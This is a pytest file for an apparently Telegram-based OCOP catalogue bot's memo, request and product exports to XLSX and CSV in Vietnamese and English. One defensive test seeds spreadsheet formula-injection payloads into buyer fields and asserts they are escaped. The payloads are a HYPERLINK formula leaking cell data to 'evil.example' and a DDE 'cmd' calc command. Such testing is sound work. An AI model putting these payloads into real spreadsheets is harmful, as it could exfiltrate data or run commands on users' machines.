"""/export memos|requests|products: files that open in a spreadsheet in the admin's language, hold the right rows,
and never a formula; the catalogue imports back unchanged in either language."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlmodel import select

from handlers.exports import labelled
from handlers.i18n import translator
from handlers.messages import Attachment
from models.audit import AuditLog
from models.catalog_export import COLUMNS, PRODUCT_COLUMNS
from models.catalog_import import import_rows, match_headers
from models.db import Database
from models.exports import MEMO_COLUMNS, REQUEST_COLUMNS
from models.memos import Memo, MemoStatus
from models.ocop import Group, ProducerKind
from models.people import BuyerKind, BuyerProfile
from models.requests import ContactRequest, RequestStatus
from models.sheet import Kind, Table
from models.tabular import read_bytes
from tests.chat import NO_BUTTONS, ChatUser
from tests.fake_telegram import FakeTelegram
from tests.loopback import serving
from tests.test_cli import run
from tests.test_import import MIXED
from tests.test_stats import known_dataset
from tests.test_telegram import OFFICE, Running, run_channel

MEMO_HEADER_VI = [
    "Mã", "Số biên bản", "Loại biên bản", "Trạng thái", "Ngày tạo", "Ngày lập dự thảo", "Ngày ký", "Sự kiện", "Sản phẩm", "Số sao",
    "Nhóm", "Chủ thể", "Tỉnh/thành phố", "Vùng", "Doanh nghiệp mua", "Loại hình bên mua", "Người đại diện bên mua",
    "Điện thoại bên mua", "Điện thoại chủ thể", "Email chủ thể", "Sản lượng", "Mùa vụ", "Lời nhắn",
]
MEMO_HEADER_EN = [
    "ID", "Memo no.", "Kind", "Status", "Created", "Drafted", "Signed", "Event", "Product", "Stars", "Group", "Producer",
    "Province", "Region", "Buyer company", "Buyer kind", "Buyer representative", "Buyer phone", "Producer phone",
    "Producer email", "Volume", "Season", "Message",
]
MACHINE_HEADER = (
    "id,name,producer,producer_kind,address,ward,province,old_province,region,group,group_name,subgroup,stars,"
    "potential_5,decision_no,decision_date,expires_on,phone,email,description,unit,capacity,season,photo"
)


def attachment(user: ChatUser) -> Attachment:
    document = user.seen[-1].document
    assert isinstance(document, Attachment)
    return document


def sheet_of(data: bytes) -> Worksheet:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]  # not read-only: formats, widths and panes are kept
    assert isinstance(sheet, Worksheet)
    return sheet


def xlsx_rows(data: bytes) -> list[dict[str, object]]:
    sheet = load_workbook(io.BytesIO(data), read_only=True).worksheets[0]
    header, *rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    return [dict(zip(header, row + [None] * (len(header) - len(row)), strict=True)) for row in rows]


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def assert_ready_to_read(sheet: Worksheet, columns: int, rows: int) -> None:
    """A frozen header with filters over every row, and every column given a width that fits its header."""
    assert sheet.freeze_panes == "A2"
    last = sheet.cell(row=1, column=columns).column_letter
    assert sheet.auto_filter.ref == f"A1:{last}{rows + 1}"
    assert all(sheet.cell(row=1, column=c).font.b for c in range(1, columns + 1))
    for column in range(1, columns + 1):
        letter = sheet.cell(row=1, column=column).column_letter
        width = sheet.column_dimensions[letter].width
        assert 6 <= width <= 50 and width >= min(len(str(sheet.cell(row=1, column=column).value)), 47)


async def english(office: ChatUser) -> None:
    await office.says("/lang")
    await office.presses("English")


async def test_memos_as_xlsx_in_vietnamese(db: Database) -> None:
    office = await known_dataset(db)
    await office.says("/export memos")
    assert office.last == "Biên bản ghi nhớ: 5 dòng (XLSX)."
    memos = attachment(office)
    assert memos.filename == "ocop-memos-20261205-1000.xlsx"
    assert memos.mime == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = sheet_of(memos.data)
    assert sheet.title == "Biên bản ghi nhớ"
    assert [cell.value for cell in sheet[1]] == MEMO_HEADER_VI
    assert_ready_to_read(sheet, len(MEMO_HEADER_VI), 5)
    created = sheet["E2"]  # Ngày tạo: a real date cell, shown dd/mm/yyyy, in the office's time
    assert (created.value, created.number_format, created.is_date) == (
        datetime(2026, 11, 27, 10, 0), "DD/MM/YYYY HH:MM", True)
    rows = xlsx_rows(memos.data)
    assert [(r["Mã"], r["Trạng thái"], r["Tỉnh/thành phố"], r["Sự kiện"]) for r in rows] == [
        (1, "Dự thảo", "Tuyên Quang", None), (2, "Bị từ chối", "Thái Nguyên", None), (3, "Dự thảo", "An Giang", None),
        (4, "Hết hạn", "Cần Thơ", None), (5, "Quan tâm", "Hà Nội", "Hội chợ OCOP cuối năm"),
    ]
    first = rows[0]
    assert (first["Số sao"], first["Nhóm"], first["Loại hình bên mua"]) == ("4 sao", "Thực phẩm", "Siêu thị")
    assert first["Doanh nghiệp mua"] == "Siêu thị Xanh" and first["Điện thoại chủ thể"] == "0900 000 111"
    assert rows[1]["Điện thoại chủ thể"] is None  # declined: the producer's contacts were never shared
    assert first["Số biên bản"] == "1/2026/BBGN-OCOP" and first["Loại biên bản"] == "Doanh nghiệp – chủ thể OCOP"


async def test_memos_in_english(sqlite_db: Database) -> None:
    office = await known_dataset(sqlite_db)
    await english(office)
    await office.says("/export memos")
    assert office.last == "Memos: 5 rows (XLSX)."
    sheet = sheet_of(attachment(office).data)
    assert sheet.title == "Memos"
    assert [cell.value for cell in sheet[1]] == MEMO_HEADER_EN
    assert_ready_to_read(sheet, len(MEMO_HEADER_EN), 5)
    first = xlsx_rows(attachment(office).data)[0]
    assert (first["Status"], first["Stars"], first["Group"], first["Buyer kind"]) == (
        "Draft", "4 stars", "Food", "Supermarket")
    assert first["Drafted"] == datetime(2026, 11, 27, 12, 0) and first["Signed"] is None


async def test_requests_as_csv(sqlite_db: Database) -> None:
    office = await known_dataset(sqlite_db)
    await office.says("/export requests csv")
    requests = attachment(office)
    assert requests.mime == "text/csv" and requests.data.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads UTF-8
    rows = csv_rows(requests.data)
    assert list(rows[0])[:5] == ["Mã", "Trạng thái", "Ngày tạo", "Ngày trả lời", "Thời gian phản hồi (giờ)"]
    assert [(r["Mã"], r["Trạng thái"], r["Thời gian phản hồi (giờ)"], r["Mã biên bản"]) for r in rows] == [
        ("1", "Đã chấp nhận", "2.0", "1"), ("2", "Đã từ chối", "6.0", "2"), ("3", "Đã chấp nhận", "10.0", "3"),
        ("4", "Đã hết hạn", "", "4"), ("5", "Đang chờ", "", "5"),
    ]
    assert (rows[0]["Ngày tạo"], rows[0]["Ngày trả lời"]) == ("27/11/2026 10:00", "27/11/2026 12:00")
    assert rows[4]["Doanh nghiệp mua"] == "Đại lý Bình" and rows[4]["Sự kiện"] == "Hội chợ OCOP cuối năm"
    assert rows[0]["Vùng"] == "Trung du và miền núi phía Bắc" and rows[1]["Lời nhắn"] == "Cần hàng"
    assert rows[0]["Số sao"] == "4 sao"

    await english(office)
    await office.says("/export requests csv")
    rows = csv_rows(attachment(office).data)
    assert [(r["ID"], r["Status"], r["Answered"]) for r in rows[:2]] == [
        ("1", "Accepted", "27/11/2026 12:00"), ("2", "Declined", "27/11/2026 16:00")]


async def test_products_export_imports_back_unchanged(sqlite_db: Database) -> None:
    office = await known_dataset(sqlite_db)
    await office.says("/export")
    assert office.buttons() == [
        "Biên bản ghi nhớ (CSV)", "Biên bản ghi nhớ (XLSX)", "Yêu cầu liên hệ (CSV)", "Yêu cầu liên hệ (XLSX)",
        "Danh mục sản phẩm (CSV)", "Danh mục sản phẩm (XLSX)"]
    await office.presses("Danh mục sản phẩm (XLSX)")
    products = attachment(office)
    sheet = sheet_of(products.data)
    assert_ready_to_read(sheet, 24, 5)
    rows = xlsx_rows(products.data)
    assert [row["Tên sản phẩm"] for row in rows] == [
        "Mật ong bạc hà Mèo Vạc", "Chè búp Tân Cương", "Nước mắm Phú Quốc 40 độ đạm", "Gạo ST25 Mỹ Xuyên",
        "Gốm men lam Bát Tràng"]
    first = rows[0]
    assert (first["Loại hình chủ thể"], first["Nhóm"], first["Tên nhóm"], first["Số sao"], first["Tiềm năng 5 sao"]) \
        == ("Hợp tác xã", 1, "Thực phẩm", "4 sao", "Không")
    decided = sheet["P2"]  # Ngày quyết định
    assert (decided.value, decided.number_format) == (datetime(2024, 11, 2), "DD/MM/YYYY")
    assert sheet["Q2"].value == datetime(2027, 11, 2)  # Hiệu lực đến: 36 months
    report = await import_rows(sqlite_db, read_bytes(products.data, products.filename))
    assert report.errors == [] and report.products_unchanged == 5 and not report.changed

    await office.says("/export products csv")
    data = attachment(office).data
    assert data.decode("utf-8-sig").startswith("Mã,Tên sản phẩm,Chủ thể,Loại hình chủ thể,")
    assert ",02/11/2024,02/11/2027," in data.decode("utf-8-sig")
    report = await import_rows(sqlite_db, read_bytes(data, "products.csv"))
    assert report.errors == [] and report.products_unchanged == 5 and not report.changed
    async with sqlite_db.session() as session:
        exports = [e.detail for e in (await session.exec(select(AuditLog).where(AuditLog.action == "export"))).all()]
    assert exports == ["xlsx, 5 rows", "csv, 5 rows"]


async def test_english_products_export_imports_back_unchanged(sqlite_db: Database) -> None:
    office = await known_dataset(sqlite_db)
    await english(office)
    for command in ("/export products", "/export products csv"):
        await office.says(command)
        products = attachment(office)
        report = await import_rows(sqlite_db, read_bytes(products.data, products.filename))
        assert report.errors == [] and report.products_unchanged == 5 and not report.changed
    rows = csv_rows(products.data)
    assert list(rows[0])[:4] == ["ID", "Product name", "Producer", "Producer kind"]
    assert (rows[0]["Producer kind"], rows[0]["Group name"], rows[0]["Stars"], rows[0]["Potential 5 stars"]) == (
        "Cooperative", "Food", "4 stars", "No")
    assert rows[0]["Decision date"] == "02/11/2024" and rows[0]["Valid until"] == "02/11/2027"


def test_cli_export_keeps_machine_columns_and_labels_import_back(tmp_path: Path) -> None:
    (tmp_path / "list.csv").write_text(MIXED, encoding="utf-8")
    assert run(tmp_path, "import", "list.csv").returncode == 0
    machine = run(tmp_path, "export", "products")
    assert machine.returncode == 0 and machine.stdout.splitlines()[0] == MACHINE_HEADER
    assert "2024-" in machine.stdout and "/2024" not in machine.stdout  # ISO dates, as scripts read them
    machine_rows = list(csv.DictReader(io.StringIO(machine.stdout)))

    vi = run(tmp_path, "export", "products", "--labels", "vi")
    assert vi.returncode == 0 and vi.stdout.startswith("Mã,Tên sản phẩm,Chủ thể,Loại hình chủ thể,")
    assert len(list(csv.DictReader(io.StringIO(vi.stdout)))) == len(machine_rows) == 3
    (tmp_path / "vi.csv").write_text(vi.stdout, encoding="utf-8")
    assert run(tmp_path, "export", "products", "--labels", "en", "--format", "xlsx", "--output", "en.xlsx").returncode == 0
    sheet = sheet_of((tmp_path / "en.xlsx").read_bytes())
    assert [cell.value for cell in sheet[1]][:3] == ["ID", "Product name", "Producer"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:X4"
    assert run(tmp_path, "export", "products", "--format", "xlsx", "--output", "machine.xlsx").returncode == 0
    assert [cell.value for cell in sheet_of((tmp_path / "machine.xlsx").read_bytes())[1]][:3] == [
        "id", "name", "producer"]
    for name in ("vi.csv", "en.xlsx", "machine.xlsx"):
        back = run(tmp_path, "import", name)
        assert back.returncode == 0 and "(0 new, 0 updated, 3 unchanged" in back.stdout, (name, back.stdout)
    assert run(tmp_path, "export", "products").stdout == machine.stdout


async def test_exports_need_a_channel_that_takes_files(sqlite_db: Database) -> None:
    office = await known_dataset(sqlite_db)
    office.capabilities = NO_BUTTONS
    await office.says("/export memos")
    assert office.last == "Kênh này chưa gửi được tệp. Hãy dùng /export trên Telegram."
    assert office.seen[-1].document is None


async def test_export_words_in_vietnamese_and_bad_ones(sqlite_db: Database) -> None:
    office = await known_dataset(sqlite_db)
    await office.says("/export yêu cầu xlsx")
    assert attachment(office).filename.startswith("ocop-requests-")
    await office.says("/export everything")
    assert office.last.startswith("Xuất dữ liệu nào?")
    await office.taps("xp:memos:pdf")
    assert "không còn hiệu lực" in office.last


FORMULA = '=HYPERLINK("http://evil.example/?p="&Q2,"Bấm vào đây")'


async def test_what_buyers_type_never_becomes_a_formula(sqlite_db: Database) -> None:
    office = await known_dataset(sqlite_db)
    async with sqlite_db.transaction() as session:
        request = await session.get(ContactRequest, 1)
        memo = (await session.exec(select(Memo).where(Memo.request_id == 1))).one()
        profile = (await session.exec(select(BuyerProfile))).first()
        assert request is not None and profile is not None
        request.message, request.season = FORMULA, "@SUM(A1:A9)"
        memo.message, memo.volume = "Cần\x0b gấp\x00", "-500"  # a vertical tab would abort the whole XLSX
        memo.buyer_company = "=cmd|' /C calc'!A0"
        profile.company = "+Siêu thị\tXanh"

    await office.says("/export requests xlsx")
    sheet = sheet_of(attachment(office).data)
    header = [cell.value for cell in sheet[1]]
    first = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert (first["Lời nhắn"].data_type, first["Lời nhắn"].value) == ("s", "'" + FORMULA)
    assert first["Mùa vụ"].value == "'@SUM(A1:A9)" and first["Doanh nghiệp mua"].value == "'+Siêu thị\tXanh"
    assert first["Mã"].value == 1 and first["Thời gian phản hồi (giờ)"].value == 2  # numbers stay numbers
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)

    await office.says("/export requests csv")
    rows = csv_rows(attachment(office).data)
    assert (rows[0]["Lời nhắn"], rows[0]["Mùa vụ"]) == ("'" + FORMULA, "'@SUM(A1:A9)")

    await office.says("/export memos")
    memos = xlsx_rows(attachment(office).data)
    assert (memos[0]["Lời nhắn"], memos[0]["Sản lượng"]) == ("Cần gấp", "'-500")
    assert memos[0]["Doanh nghiệp mua"] == "'=cmd|' /C calc'!A0"


@pytest.fixture
async def telegram(sqlite_db: Database) -> AsyncIterator[Running]:
    async with serving(FakeTelegram()) as fake:
        async for running in run_channel(sqlite_db, fake, "polling"):
            yield running


async def test_export_on_telegram_in_english(sqlite_db: Database, telegram: Running) -> None:
    office = telegram.user(OFFICE)
    await office.says("/lang")
    await office.expect("Choose your language")
    await office.presses("English")
    await office.expect("English")
    await office.says("/export products")
    await office.expect("Product catalogue: 5 rows (XLSX).")
    sent = await office.expect("ocop-products-")
    assert sent.method == "sendDocument"
    [(name, data)] = sent.files.items()
    assert name.startswith("ocop-products-") and name.endswith(".xlsx")
    sheet = sheet_of(data)
    assert [cell.value for cell in sheet[1]][:4] == ["ID", "Product name", "Producer", "Producer kind"]
    assert_ready_to_read(sheet, 24, 5)
    assert sheet["P2"].number_format == "DD/MM/YYYY" and isinstance(sheet["P2"].value, datetime)
    report = await import_rows(sqlite_db, read_bytes(data, name))
    assert report.errors == [] and report.products_unchanged == 5 and not report.changed


@pytest.mark.parametrize("language", ["vi", "en"])
def test_every_header_and_code_has_words_and_product_headers_import(language: str) -> None:
    t = translator(language)
    for column in (*MEMO_COLUMNS, *REQUEST_COLUMNS, *PRODUCT_COLUMNS):
        assert t(f"export.column.{column.key}") != f"export.column.{column.key}"
    codes = {Kind.MEMO_STATUS: MemoStatus, Kind.REQUEST_STATUS: RequestStatus, Kind.BUYER_KIND: BuyerKind,
             Kind.PRODUCER_KIND: ProducerKind, Kind.GROUP: Group}
    for kind, vocabulary in codes.items():
        for code in vocabulary:
            assert t(f"{kind.value}.{code.value}") != f"{kind.value}.{code.value}"
    header = labelled(Table(PRODUCT_COLUMNS, []), t).header
    importable = {i: key for i, key in enumerate(COLUMNS) if key not in ("id", "region", "group_name", "expires_on")}
    assert match_headers(list(header)) == importable  # the labelled catalogue's headers are the importer's
